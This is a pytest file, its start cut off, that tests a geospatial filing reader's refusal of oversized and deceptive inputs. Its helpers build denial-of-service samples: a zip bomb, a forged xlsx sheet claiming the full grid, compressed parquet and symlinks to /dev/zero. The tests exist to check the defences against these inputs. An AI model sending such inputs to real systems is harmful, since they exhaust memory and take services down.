    path = sparse(tmp_path / "huge.csv", head=b"operator_id,kind,lon,lat,crs\n")
    with pytest.raises(InputError) as caught:
        read_facilities(path)
    (problem,) = caught.value.problems
    assert problem.file == "huge.csv"
    assert f"{HUGE:,} bytes" in problem.reason
    assert "max_bytes=" in problem.reason
    assert "pilotzone verify 'dir/*.parquet' --workers N" in problem.reason


def test_the_cli_refuses_a_huge_file_with_exit_2(tmp_path: Path) -> None:
    path = sparse(tmp_path / "huge.xlsx")
    code, _, err = run_cli("verify", str(path), "--crs", "wgs84", "--as-of", AS_OF)
    assert code == 2
    assert "Traceback" not in err
    assert "huge.xlsx" in err and "more than the limit" in err


def test_huge_boundary_files_are_refused_before_they_are_read(tmp_path: Path) -> None:
    from pilotzone.errors import BoundaryDataError

    path = sparse(tmp_path / "huge.geojson", head=b'{"type": "FeatureCollection"')
    with pytest.raises(BoundaryDataError, match=f"huge.geojson is too large: {HUGE:,} bytes"):
        load_zones(boundaries=path, accuracy_m=10)


def test_the_default_limit_follows_available_memory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pilotzone import facilities

    path = tmp_path / "filing.csv"
    path.write_text(VALID_CSV, encoding="utf-8")
    size = path.stat().st_size
    monkeypatch.setattr(
        facilities, "_available_memory", lambda: size * facilities.MEMORY_PER_FILE_BYTE
    )
    assert len(read_facilities(path)) == 3
    monkeypatch.setattr(
        facilities, "_available_memory", lambda: (size - 1) * facilities.MEMORY_PER_FILE_BYTE
    )
    with pytest.raises(
        InputError, match=f"the file is {size:,} bytes, more than the limit of {size - 1:,}"
    ):
        read_facilities(path)
    monkeypatch.setattr(facilities, "_available_memory", lambda: None)
    assert facilities._default_max_bytes() == facilities.FALLBACK_MAX_BYTES
    assert len(read_facilities(path, max_bytes=size)) == 3


@pytest.mark.parametrize("bad", [0, -1, True, 1.5, "10"])
def test_max_bytes_must_be_a_positive_integer(bad: Any) -> None:
    with pytest.raises(ValueError, match="max_bytes must be a positive integer"):
        read_facilities(pd.DataFrame(), max_bytes=bad)


def zip_bomb(inner: str, size: int) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(inner, b" " * size)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("suffix", "inner"), [(".kmz", "doc.kml"), (".xlsx", "xl/worksheets/sheet1.xml")]
)
def test_archives_that_unpack_beyond_the_limit_are_refused(
    tmp_path: Path, suffix: str, inner: str
) -> None:
    path = tmp_path / f"bomb{suffix}"
    path.write_bytes(zip_bomb(inner, 8 * 2**20))
    assert path.stat().st_size < 2**20 // 8
    with pytest.raises(InputError, match=f"its contents unpack to {8 * 2**20:,} bytes"):
        read_facilities(path, crs="wgs84", max_bytes=2**20)


def test_parquet_that_uncompresses_beyond_the_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "zeros.parquet"
    pd.DataFrame({"operator_id": ["A"] * 2**18, "lon": [0.0] * 2**18}).to_parquet(path)
    assert path.stat().st_size < 2**20 // 4
    with pytest.raises(InputError, match="its data unpacks to at least"):
        read_facilities(path, crs="wgs84", max_bytes=2**20 // 4)


def lying_workbook(path: Path, *, far_cell: bool, rows: int = 1) -> Path:
    """A small workbook whose sheet claims the whole grid, A1:XFD1048576; with
    ``far_cell``, it also holds a value in that last cell."""
    data, _ = xlsx_bytes(
        ["operator_id", "kind", "lon", "lat", "crs"], [["A", "idc", 121.5, 31.2, "wgs84"]] * rows
    )
    source = zipfile.ZipFile(io.BytesIO(data))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(
                    rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', content
                )
                if far_cell:
                    content = content.replace(
                        b"</sheetData>",
                        b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>',
                    )
            target.writestr(entry, content)
    return path


@contextlib.contextmanager
def memory_cap(extra: int = 4 * 2**30) -> Any:
    """At most ``extra`` more bytes of address space: were a fix undone, the test fails
    with MemoryError instead of taking the machine down."""
    resource = pytest.importorskip("resource")
    status = Path("/proc/self/status")
    if not status.exists():
        pytest.skip("needs /proc/self/status")
    size = next(int(line.split()[1]) * 1024 for line in status.read_text().splitlines()
                if line.startswith("VmSize:"))  # fmt: skip
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    resource.setrlimit(resource.RLIMIT_AS, (size + extra, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


def test_a_workbook_that_claims_the_whole_grid_is_read_as_it_is(tmp_path: Path) -> None:
    path = lying_workbook(tmp_path / "claims.xlsx", far_cell=False, rows=4000)
    with memory_cap():
        sites = read_facilities(path, max_bytes=2**28)
    assert len(sites) == 4000  # rows of 5 cells, not of the 16,384 the sheet claims


def test_a_workbook_of_too_many_cells_is_refused(tmp_path: Path) -> None:
    path = lying_workbook(tmp_path / "far.xlsx", far_cell=True)
    assert path.stat().st_size < 20_000
    with memory_cap(), pytest.raises(InputError, match=r"far.xlsx.*the worksheet has more than"):
        read_facilities(path, max_bytes=2**30)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_a_device_is_not_read(tmp_path: Path) -> None:
    """A filing or boundary file that is a link to /dev/zero has size 0 and no end."""
    from pilotzone.errors import BoundaryDataError

    for name in ("zero.csv", "zero.geojson"):
        (tmp_path / name).symlink_to("/dev/zero")
    with memory_cap(), pytest.raises(InputError, match=r"zero\.csv: not a regular file"):
        read_facilities(tmp_path / "zero.csv", crs="wgs84")
    with memory_cap(), pytest.raises(BoundaryDataError, match=r"zero\.geojson: not a regular file"):
        load_zones(boundaries=tmp_path / "zero.geojson", accuracy_m=10)


def test_crs_names_in_cells_are_not_searched(monkeypatch: pytest.MonkeyPatch) -> None:
    # A name would make PROJ search its database (up to a second a distinct value); in cells it is
    # refused before PROJ sees it, while aliases and codes still work.
    import pyproj

    seen: list[Any] = []
    original = pyproj.CRS.from_user_input
    monkeypatch.setattr(
        pyproj.CRS,
        "from_user_input",
        lambda value, **kw: seen.append(value) or original(value, **kw),
    )
    junk = [f"甲公司{i}" for i in range(50)] + ["WGS 84 / UTM zone 50N", "gcj-02", "EPSG:4326"]
    frame = pd.DataFrame(
        {"operator_id": "A", "kind": "idc", "lon": 116.4, "lat": 39.9, "crs": junk}
    )
    result = verify(read_facilities(frame, max_crs=len(junk)))  # more than MAX_CRS
    assert (result["status"] == "invalid").tolist() == [True] * 51 + [False] * 2
    assert all(v in ("EPSG:4326", "wgs84") or not isinstance(v, str) for v in seen)
    assert "unknown coordinate system" in result["message"].iloc[0]
